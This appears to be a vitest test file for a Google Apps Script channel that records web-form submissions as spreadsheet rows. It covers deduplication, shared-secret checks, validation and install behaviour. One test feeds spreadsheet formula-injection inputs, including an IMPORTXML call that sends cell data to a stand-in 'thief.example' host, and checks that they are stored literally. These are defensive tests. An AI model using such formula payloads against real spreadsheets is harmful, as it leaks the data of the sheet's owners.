import { describe, expect, test } from 'vitest';

import { normaliseReference } from '../domain/case/submission.ts';
import { sampleApplication, sampleMessage } from '../domain/testing/sample-forms.ts';
import { replyHours } from '../domain/time/reply-due.ts';
import { scriptSentences } from '../server/delivery/channels/sheet.ts';
import { forwarded, Google, scriptSource } from './testing/google.ts';

const cells = Object.fromEntries(
  Object.entries(forwarded).map(([name, answer]) => [name, [answer].flat().join('; ')]),
);

test('spreadsheet: a form is a row under headings, in the tab of its kind, with the time by which an answer was promised', () => {
  const google = new Google();
  expect(google.post(forwarded)).toEqual({ success: true, reference: '4KX7-9QMD' });
  const { submittedAt } = forwarded;
  const dueAt = new Date(Date.parse(submittedAt) + replyHours.enrolment * 3_600_000);
  expect(google.records()).toEqual([{ ...cells, dueAt, answered: '', key: '' }]);
  google.post({ ...sampleMessage, reference: '2222-3333', submittedAt });
  expect(google.records('Messages')).toMatchObject([sampleMessage]);
  const hours = ['Applications', 'Messages'].map((tab) => {
    const [record] = google.records(tab);
    return (Number(record!.dueAt) - Date.parse(submittedAt)) / 3_600_000;
  });
  expect(hours).toEqual([replyHours.enrolment, replyHours.contact]);
});

test('spreadsheet: columns of the staff, their order and their rows stay; only missing headings are added', () => {
  const google = new Google();
  const rows = [
    ['Called?', 'city', ' fullName ', 'Notes'],
    ['yes', 'Bath', 'Ann', 'mornings'],
  ];
  google.tabs.set('Applications', { rows, columns: 26, rules: [] });
  expect(google.post(forwarded).success).toBe(true);
  const [headings, earlier, added] = google.tabs.get('Applications')!.rows;
  expect(headings!.slice(0, 4)).toEqual(['Called?', 'city', ' fullName ', 'Notes']);
  expect(new Set(headings!.map((heading) => String(heading).trim())).size).toBe(headings!.length);
  expect(earlier).toEqual(['yes', 'Bath', 'Ann', 'mornings']);
  expect(added!.slice(0, 4)).toEqual(['', 'Leeds', forwarded.fullName, '']);
});

test.each([
  ...['=A2&B2', '=IMPORTXML("https://thief.example/?"&C2,"//a")', '+A2', '-A2', '@A2', '\t=A2'],
  "'=A2",
  ...['01632960001', '+447700900123', '1/2', '2025-03-01', 'May 2025', 'TRUE', '10%', '1e5', '  '],
])('spreadsheet: what was typed is in its cell letter for letter: %j', (typed) => {
  const google = new Google();
  const form = { ...forwarded, businessName: typed, additionalRequirements: `${typed}\n=A2` };
  expect(google.post(form).success).toBe(true);
  expect(google.records()).toMatchObject([
    { businessName: typed, additionalRequirements: `${typed}\n=A2` },
  ]);
});

describe('spreadsheet: the same form sent twice is one row', () => {
  test('by its reference, whatever else the staff have changed in its row', () => {
    const google = new Google();
    google.post(forwarded);
    const [headings, row] = google.tabs.get('Applications')!.rows;
    row![headings!.indexOf('city')] = 'Leeds, Yorkshire';
    // A column of the format “Plain text” shows the apostrophe.
    row![headings!.indexOf('reference')] = `'${forwarded.reference}`;
    expect(google.post(forwarded)).toEqual({ success: true, reference: forwarded.reference });
    expect(google.post({ ...forwarded, reference: '3333-4444' }).success).toBe(true);
    expect(google.records()).toHaveLength(2);
  });

  test('without a reference by its answers and its day (UTC), and is told the same reference', () => {
    const google = new Google();
    google.now = '2025-01-31T00:00:00.000Z';
    const { reference } = google.post(sampleApplication);
    expect(normaliseReference(reference!)).toBe(reference);
    google.now = '2025-01-31T23:59:59.999Z';
    const reordered = Object.fromEntries(Object.entries(sampleApplication).reverse());
    expect(google.post(reordered)).toEqual({ success: true, reference });
    expect(google.records()).toMatchObject([{ submittedAt: '2025-01-31T00:00:00.000Z' }]);
    expect(google.post({ ...sampleApplication, city: 'Ely' }).reference).not.toBe(reference);
    google.now = '2025-02-01T00:00:00.000Z';
    expect(google.post(sampleApplication).reference).not.toBe(reference);
    expect(google.records()).toHaveLength(3);
  });
});

const secret = 'correct-horse-battery';

test.each([
  ['where the script has none', '', secret],
  ['that is another', secret, 'correct-horse-batterx'],
  ['that is missing', secret, ''],
])('spreadsheet secret: one %s stores nothing and says what to do', (_what, own, sent) => {
  const google = new Google();
  if (own) google.properties.set('SHEET_SECRET', own);
  const { success, error } = google.post(forwarded, sent);
  expect(success).toBe(false);
  expect(error).toMatch(/SHEET_SECRET at the server and in Apps Script.*must be the same/);
  for (const each of [sent, own].filter(Boolean)) expect(error).not.toContain(each);
  expect(google.tabs.size).toBe(0);
});

test('spreadsheet secret: it may have white space around it in the script properties, as pasted text has', () => {
  const google = new Google();
  google.properties.set('SHEET_SECRET', ` ${secret}\n`);
  expect(google.post(forwarded, secret).success).toBe(true);
});

const manyFields = Object.fromEntries(Array.from({ length: 120 }, (_, at) => [`field${at}`, 'x']));

test.each<[string, unknown]>([
  ['no object', 'typed by somebody'],
  ['no form', {}],
  ['an answer that is no text', { ...forwarded, city: 7 }],
  ['an answer within an answer', { ...forwarded, city: { name: 'Leeds' } }],
  ['an odd reference', { ...forwarded, reference: '=A1' }],
  ['an odd time', { ...forwarded, submittedAt: 'yesterday' }],
  ['a formula as the name of a field', { ...forwarded, '=A1': 'x' }],
  ['an answer in the column of the staff', { ...forwarded, answered: 'yes' }],
  ['more columns than a tab has room for', { ...forwarded, ...manyFields }],
])('spreadsheet: %s is refused, and nothing of it is said', (_what, form) => {
  const google = new Google();
  expect(google.post(form)).toEqual({
    success: false,
    error: 'The field data does not hold the JSON of a form.',
  });
  expect(google.records()).toEqual([]);
  expect(google.log).toEqual([]);
});

test('spreadsheet: while other forms are being written, and where Google fails, a form is answered as a failure', () => {
  const google = new Google();
  google.isLocked = true;
  expect(google.post(forwarded).error).toMatch(/busy with other forms/);
  google.isLocked = false;
  google.fault = (service) =>
    service === 'Sheet.appendRow' ? 'Service invoked too many times.' : undefined;
  const error = expect.stringMatching(/under Executions/) as string;
  expect(google.post(forwarded)).toEqual({ success: false, error });
  expect(google.log).toEqual(['Service invoked too many times.']);
});

test('spreadsheet: its address says that it works; install makes both tabs, colours what is late, and changes nothing again', () => {
  const google = new Google();
  expect(String(google.run('doGet'))).toMatch(/^The script is installed/);
  google.run('install');
  expect(google.log).toEqual(['Ready. Now choose Deploy, New deployment.']);
  expect([...google.tabs.keys()]).toEqual(['Applications', 'Messages']);
  const tabs = structuredClone(google.tabs);
  for (const { rules } of tabs.values()) expect(rules).toEqual([expect.stringContaining('NOW()')]);
  google.run('install');
  expect(google.tabs).toEqual(tabs);
});

test('spreadsheet: the server knows every sentence that the script may answer', () => {
  const [, said = ''] = /\nconst SAY = (\{.*?\n\});/su.exec(scriptSource)!;
  const sentences = [...said.matchAll(/'([^'\n]+)'/gu)].map(([, sentence]) => sentence);
  expect(sentences).toEqual(scriptSentences);
});
